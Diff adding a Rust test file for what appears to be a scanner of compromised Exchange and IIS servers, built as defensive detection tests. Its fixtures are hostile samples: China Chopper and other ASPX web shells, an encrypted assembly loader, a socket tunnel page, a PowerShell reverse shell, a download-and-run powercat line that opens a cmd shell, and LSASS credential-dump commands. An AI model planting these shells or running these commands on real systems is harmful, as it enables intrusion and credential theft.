@@ -1,0 +1,330 @@
+//! Every rule family on synthetic fixtures written for these tests, with negatives.
+
+mod common;
+
+use common::*;
+use exhunt_core::model::{Severity, VerdictLevel};
+use exhunt_files::FileOptions;
+
+const CHOPPER: &str = r#"<%@ Page Language="Jscript"%><%eval(Request.Item["q7"],"unsafe");%>"#;
+const CHOPPER_B64: &str = r#"<%@ Page Language="Jscript" Debug=false%>
+<%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["t"])));%>"#;
+const OAB_LEFTOVER: &str = "Name : OAB (Default Web Site)\r\nPollInterval : 480\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k1\"],\"unsafe\");}</script>\r\nInternalUrl : https://ex01.corp.local/OAB\r\n";
+const FILE_MANAGER: &str = r#"<%@ Page Language="C#" %>
+<script runat="server">
+void List(string p) { foreach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name);
+  foreach (var s in System.IO.Directory.GetDirectories(p)) Response.Write(s); }
+void Run(string c) { var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c); System.Diagnostics.Process.Start(si); }
+void Del(string f) { System.IO.File.Delete(f); }
+void Up() { Request.Files[0].SaveAs(Server.MapPath(".") + "/x"); }
+</script>"#;
+const LOADER: &str = r#"<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  byte[] k = Encoding.Default.GetBytes("0123456789abcdef");
+  byte[] c = Request.BinaryRead(Request.ContentLength);
+  Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("P").Equals(this);
+}
+</script>"#;
+const TUNNEL: &str = r#"<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+protected void Page_Load(object o, EventArgs e) {
+  string cmd = Request.Headers.Get("X-CMD");
+  if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); Session["s"] = s; Response.AddHeader("X-STATUS", "OK"); }
+  else if (cmd == "DISCONNECT") { } else if (cmd == "FORWARD") { } else if (cmd == "READ") { }
+}
+</script>"#;
+const STOCK_LOGON: &str = r#"<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
+<%@ Import Namespace="Microsoft.Exchange.Clients" %>
+<!DOCTYPE HTML><html><head><title><%= Strings.GetLocalizedString(Strings.IDs.OutlookWebApp) %></title>
+<script type="text/javascript" src="<%=InlineJavascript("flogon.js")%>"></script></head>
+<body><form action="/owa/auth.owa" method="POST" name="logonForm"><% if (IsDownLevelClient) { %><div></div><% } %></form></body></html>"#;
+const STOCK_WITH_SHELL: &str = r#"<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
+<script language="C#" runat="server">void Page_Init(){ if (Request["h"] != null) Response.Write(Request["h"]); }</script>
+<html><body></body></html>"#;
+const PROCESS_PAGE: &str = r#"<%@ WebHandler Language="C#" Class="H" %>
+public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) {
+  var p = new System.Diagnostics.ProcessStartInfo("powershell.exe", c.Request.Form["a"]);
+  System.Diagnostics.Process.Start(p); } public bool IsReusable { get { return false; } } }"#;
+const REFLECTIVE_PAGE: &str = r#"<%@ Page Language="C#" %><script runat="server">
+static string blob = "TVqQAAMAAAAEAAAA";
+void Page_Load(){ var a = System.Reflection.Assembly.Load(System.Convert.FromBase64String(blob)); Response.Write(a.FullName); }
+</script>"#;
+
+// Benign pages that use eval-like words, base64 images and processes harmlessly.
+const BENIGN_DATABIND: &str = r#"<%@ Page Language="C#" MasterPageFile="~/Site.master" %>
+<asp:Repeater runat="server" ID="list"><ItemTemplate><%# Eval("Title") %> <%# DataBinder.Eval(Container.DataItem, "Price") %></ItemTemplate></asp:Repeater>
+<script type="text/javascript">var cfg = eval('(' + json + ')'); var q = Request; </script>
+<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" />"#;
+const BENIGN_ADMIN: &str = r#"<%@ Page Language="C#" %><script runat="server">
+void ProcessOrder(object s, EventArgs e) { var id = Request.QueryString["id"]; Orders.Process(id); }
+void Page_Load() { foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/images"))) list.Items.Add(f); }
+</script>"#;
+
+fn scan_default(tree: &Tree) -> exhunt_core::ScanReport {
+    scan(tree, FileOptions::default())
+}
+
+#[test]
+fn china_chopper_variants() {
+    let t = Tree::new();
+    t.write("inetpub/wwwroot/aspnet_client/system_web/qwertyui.aspx", CHOPPER)
+        .write("inetpub/wwwroot/site/b.aspx", CHOPPER_B64)
+        .write(
+            "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx",
+            OAB_LEFTOVER,
+        );
+    let r = scan_default(&t);
+    assert_eq!(
+        ids_for(&r, "inetpub/wwwroot/aspnet_client/system_web/qwertyui.aspx"),
+        ["EXH-FN-001", "EXH-FY-001"]
+    );
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/site/b.aspx"), ["EXH-FY-001"]);
+    assert_eq!(
+        ids_for(&r, "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"),
+        ["EXH-FN-002", "EXH-FN-004", "EXH-FY-001", "EXH-FY-002"]
+    );
+    assert_eq!(r.hosts[0].verdict, VerdictLevel::Compromised);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule.id == "EXH-FY-001" && f.path.ends_with("qwertyui.aspx"))
+        .unwrap();
+    assert_eq!(f.severity, Severity::Critical);
+    assert_eq!(f.extra["size"], CHOPPER.len());
+    assert_eq!(f.extra["sha256"].as_str().unwrap().len(), 64);
+    assert!(f.extra.contains_key("modified"));
+    let m = &f.extra["matches"][0];
+    assert!(m["offset"].as_u64().is_some() && m["data"].as_str().unwrap().contains("eval"));
+    assert_eq!(f.url_path.as_deref(), Some("/aspnet_client/system_web/qwertyui.aspx"));
+    assert_eq!(f.line(), None);
+}
+
+#[test]
+fn shells_families_by_content_in_an_ordinary_folder() {
+    let t = Tree::new();
+    t.write("inetpub/wwwroot/app/fm.aspx", FILE_MANAGER)
+        .write("inetpub/wwwroot/app/ld.aspx", LOADER)
+        .write("inetpub/wwwroot/app/tn.aspx", TUNNEL)
+        .write("inetpub/wwwroot/app/pr.ashx", PROCESS_PAGE)
+        .write("inetpub/wwwroot/app/rf.aspx", REFLECTIVE_PAGE);
+    let r = scan_default(&t);
+    assert!(ids_for(&r, "inetpub/wwwroot/app/fm.aspx").contains(&"EXH-FY-003".into()));
+    assert!(ids_for(&r, "inetpub/wwwroot/app/ld.aspx").contains(&"EXH-FY-004".into()));
+    assert!(ids_for(&r, "inetpub/wwwroot/app/tn.aspx").contains(&"EXH-FY-005".into()));
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/pr.ashx"), ["EXH-FY-009"]);
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/rf.aspx"), ["EXH-FY-010"]);
+}
+
+#[test]
+fn obfuscated_page() {
+    let t = Tree::new();
+    let mut page = String::from("<%@ Page Language=\"C#\" %><% var s = \"");
+    for _ in 0..300 {
+        page.push_str("\\u0041");
+    }
+    page.push_str("\"; %>");
+    t.write("inetpub/wwwroot/app/o.aspx", &page);
+    // The same escapes in a static script are not a server-side page.
+    t.write("inetpub/wwwroot/app/o.js", &page);
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/o.aspx"), ["EXH-FY-011"]);
+    assert!(ids_for(&r, "inetpub/wwwroot/app/o.js").is_empty());
+}
+
+#[test]
+fn proxyshell_pst_and_certificate_request_pages() {
+    let t = Tree::new();
+    let mut pst = b"!BDN\x0e\xc7\x4d\x53\x00\x00".to_vec();
+    pst.extend_from_slice(&[0u8; 300]);
+    pst.extend_from_slice(b"<script language=\"JScript\" runat=\"server\">x</script>");
+    let mut csr = vec![0x30, 0x82, 0x02, 0x10, 0x30, 0x82];
+    csr.extend_from_slice(&[0u8; 40]);
+    csr.extend_from_slice(b"CN=<script language=\"JScript\" runat=\"server\">y</script>");
+    let mut plain_pst = b"!BDN".to_vec();
+    plain_pst.extend_from_slice(&[0u8; 100]);
+    t.write("inetpub/wwwroot/aspnet_client/a.aspx", &pst)
+        .write("inetpub/wwwroot/app/c.aspx", &csr)
+        .write("inetpub/wwwroot/app/backup.pst", &plain_pst);
+    let r = scan_default(&t);
+    assert!(ids_for(&r, "inetpub/wwwroot/aspnet_client/a.aspx").contains(&"EXH-FY-006".into()));
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/c.aspx"), ["EXH-FY-007"]);
+    assert!(ids_for(&r, "inetpub/wwwroot/app/backup.pst").is_empty());
+}
+
+#[test]
+fn stock_exchange_files_are_quiet_and_tampered_ones_are_not() {
+    let t = Tree::new();
+    let auth = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth";
+    let ecp = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth";
+    t.write(&format!("{auth}/logon.aspx"), STOCK_LOGON)
+        .write(&format!("{auth}/errorFE.aspx"), STOCK_LOGON)
+        .write(&format!("{auth}/15.1.2375.7/themes/resources/logon.css"), "body{}")
+        .write(&format!("{ecp}/TimeoutLogoff.aspx"), STOCK_LOGON)
+        .write("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/x.js", "var a=1;")
+        .write("inetpub/wwwroot/iisstart.htm", "<html>IIS</html>")
+        .write(&format!("{auth}/signout.aspx"), STOCK_WITH_SHELL)
+        .write(&format!("{ecp}/logon.aspx"), STOCK_LOGON)
+        .write("inetpub/wwwroot/aspnet_client/logon.aspx", STOCK_LOGON);
+    let r = scan_default(&t);
+    assert_eq!(
+        hits(&r),
+        [
+            ("EXH-FN-001".into(), "EX01/C/inetpub/wwwroot/aspnet_client/logon.aspx".into()),
+            ("EXH-FN-003".into(), format!("EX01/C/{ecp}/logon.aspx")),
+            ("EXH-FY-008".into(), format!("EX01/C/{auth}/signout.aspx")),
+        ]
+    );
+}
+
+#[test]
+fn benign_pages_with_eval_words_base64_images_and_processes() {
+    let t = Tree::new();
+    t.write("inetpub/wwwroot/shop/list.aspx", BENIGN_DATABIND)
+        .write("inetpub/wwwroot/shop/admin.aspx", BENIGN_ADMIN)
+        .write("inetpub/wwwroot/shop/app.js", "function f(s){ return eval(s); } // Request")
+        .write("inetpub/wwwroot/shop/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
+    let r = scan_default(&t);
+    assert!(r.findings.is_empty(), "{:?}", hits(&r));
+    assert_eq!(r.hosts[0].verdict, VerdictLevel::NoEvidence);
+}
+
+#[test]
+fn lsass_dumps_and_dump_scripts() {
+    let t = Tree::new();
+    t.write("Windows/Temp/lsass.dmp", minidump("C:\\Windows\\System32\\lsass.exe"))
+        .write("root/out.bin", minidump("C:\\Windows\\System32\\lsass.exe"))
+        .write("Windows/Temp/wer.dmp", minidump("C:\\Program Files\\app\\app.exe"))
+        .write(
+            "Windows/Temp/test.bat",
+            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\lsass.dmp full\r\n",
+        )
+        .write("PerfLogs/p.cmd", "procdump64.exe -accepteula -ma lsass.exe c:\\perflogs\\l.dmp\r\n");
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "Windows/Temp/lsass.dmp"), ["EXH-FN-020", "EXH-FY-020"]);
+    assert_eq!(ids_for(&r, "root/out.bin"), ["EXH-FY-020"]);
+    assert!(ids_for(&r, "Windows/Temp/wer.dmp").is_empty());
+    assert_eq!(ids_for(&r, "Windows/Temp/test.bat"), ["EXH-FY-023"]);
+    assert_eq!(ids_for(&r, "PerfLogs/p.cmd"), ["EXH-FY-023"]);
+}
+
+#[test]
+fn staging_archives_need_context() {
+    let t = Tree::new();
+    t.write("ProgramData/Vendor/defs.zip", zip_with(&["defs/engine.dat"]))
+        .write("ProgramData/Vendor/Updates/2021/update.zip", zip_with(&["u.msi"]))
+        .write("inetpub/wwwroot/app/readme.zip", zip_with(&["pst-guide.txt"]));
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "ProgramData/Vendor/defs.zip"), ["EXH-FY-021"]);
+    assert!(ids_for(&r, "ProgramData/Vendor/Updates/2021/update.zip").is_empty());
+    assert!(ids_for(&r, "inetpub/wwwroot/app/readme.zip").is_empty());
+    let vendor = r.findings.iter().find(|f| f.path.ends_with("defs.zip")).unwrap();
+    assert_eq!(vendor.severity, Severity::Low, "a vendor zip alone stays low");
+    assert_eq!(r.hosts[0].verdict, VerdictLevel::NoEvidence);
+
+    // An archive of mailboxes is high by itself, and raises the other archives.
+    t.write("ProgramData/it.zip", zip_with(&["mail/ceo.pst", "mail/cfo.pst"]));
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "ProgramData/it.zip"), ["EXH-FY-021", "EXH-FY-022"]);
+    let vendor = r.findings.iter().find(|f| f.path.ends_with("defs.zip")).unwrap();
+    assert_eq!(vendor.severity, Severity::High);
+    assert!(vendor.notes.iter().any(|n| n.contains("raised")));
+    assert_eq!(r.hosts[0].verdict, VerdictLevel::Compromised);
+}
+
+#[test]
+fn vendor_zip_alone_keeps_a_clean_verdict() {
+    let t = Tree::new();
+    t.write("ProgramData/McAfee/update.zip", zip_with(&["engine.dat"]));
+    let r = scan_default(&t);
+    assert_eq!(r.hosts[0].verdict, VerdictLevel::NoEvidence);
+}
+
+#[test]
+fn tools_and_reverse_shells() {
+    let t = Tree::new();
+    t.write(
+        "Users/Public/a.ps1",
+        "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.9',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length)}",
+    )
+    .write(
+        "ProgramData/b.ps1",
+        "IEX (New-Object System.Net.Webclient).DownloadString('https://example.invalid/powercat.ps1');powercat -c 10.0.0.9 -p 443 -e cmd",
+    )
+    .write("ProgramData/procdump64.exe", b"MZ\x90\0")
+    .write("root/DrSDKCaller.exe", b"MZ\x90\0")
+    .write("Users/Public/net.ps1", "$c = New-Object System.Net.Sockets.TCPClient('mail', 25); $c.Close()");
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "Users/Public/a.ps1"), ["EXH-FY-024"]);
+    assert_eq!(ids_for(&r, "ProgramData/b.ps1"), ["EXH-FY-024"]);
+    assert_eq!(ids_for(&r, "ProgramData/procdump64.exe"), ["EXH-FN-022"]);
+    assert_eq!(ids_for(&r, "root/DrSDKCaller.exe"), ["EXH-FN-021"]);
+    assert!(ids_for(&r, "Users/Public/net.ps1").is_empty());
+}
+
+#[test]
+fn ransomware_traces() {
+    let t = Tree::new();
+    let mut enc = b"DEARCRY!".to_vec();
+    enc.extend_from_slice(&[0x5a; 300]);
+    t.write("Users/Public/report.docx.CRYPT", &enc)
+        .write("Users/Public/notes.CRYPT", b"not really encrypted")
+        .write(
+            "Users/Public/decrypt_file.TxT",
+            "We are BLACK KINGDOM. Your files have been encrypted. Send 0.1 bitcoin.",
+        )
+        .write("Users/Public/kingdom.txt", "The black kingdom of the board game");
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "Users/Public/report.docx.CRYPT"), ["EXH-FN-030", "EXH-FY-030"]);
+    assert_eq!(ids_for(&r, "Users/Public/notes.CRYPT"), ["EXH-FN-030"]);
+    assert_eq!(ids_for(&r, "Users/Public/decrypt_file.TxT"), ["EXH-FN-031", "EXH-FY-031"]);
+    assert!(ids_for(&r, "Users/Public/kingdom.txt").is_empty());
+}
+
+#[test]
+fn iis_config_tampering() {
+    let t = Tree::new();
+    t.write(
+        "Windows/System32/inetsrv/config/applicationHost.config",
+        r#"<configuration><system.applicationHost><sites><site name="Default Web Site" id="1">
+<application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" /></application>
+<application path="/zoo"><virtualDirectory path="/" physicalPath="C:\ProgramData\ZOO" /></application>
+</site></sites></system.applicationHost><system.webServer><globalModules>
+<add name="UriCacheModule" image="%windir%\System32\inetsrv\cachuri.dll" />
+<add name="Helper" image="C:\Users\Public\h.dll" />
+</globalModules></system.webServer></configuration>"#,
+    )
+    .write(
+        "inetpub/wwwroot/app/web.config",
+        r#"<configuration><system.webServer><handlers><add name="x" path="*.xyz" verb="*" modules="CgiModule" scriptProcessor="C:\Windows\System32\cmd.exe" /></handlers></system.webServer></configuration>"#,
+    )
+    .write(
+        "inetpub/wwwroot/blog/web.config",
+        r#"<configuration><system.webServer><modules><add name="Blog" type="BlogEngine.Core.Web.HttpModules.UrlRewrite, BlogEngine.Core" /></modules></system.webServer></configuration>"#,
+    );
+    let r = scan_default(&t);
+    assert_eq!(
+        ids_for(&r, "Windows/System32/inetsrv/config/applicationHost.config"),
+        ["EXH-FC-001", "EXH-FC-002"]
+    );
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/web.config"), ["EXH-FY-040"]);
+    assert!(ids_for(&r, "inetpub/wwwroot/blog/web.config").is_empty());
+}
+
+#[test]
+fn published_names_in_web_folders_only() {
+    let t = Tree::new();
+    t.write("inetpub/wwwroot/supp0rt.aspx", "<html></html>")
+        .write("Users/Public/supp0rt.aspx", "<html></html>")
+        .write(
+            "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx",
+            "<html></html>",
+        );
+    let r = scan_default(&t);
+    assert_eq!(ids_for(&r, "inetpub/wwwroot/supp0rt.aspx"), ["EXH-FN-004"]);
+    assert!(ids_for(&r, "Users/Public/supp0rt.aspx").is_empty());
+    assert_eq!(
+        ids_for(&r, "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx"),
+        ["EXH-FN-005"]
+    );
+}
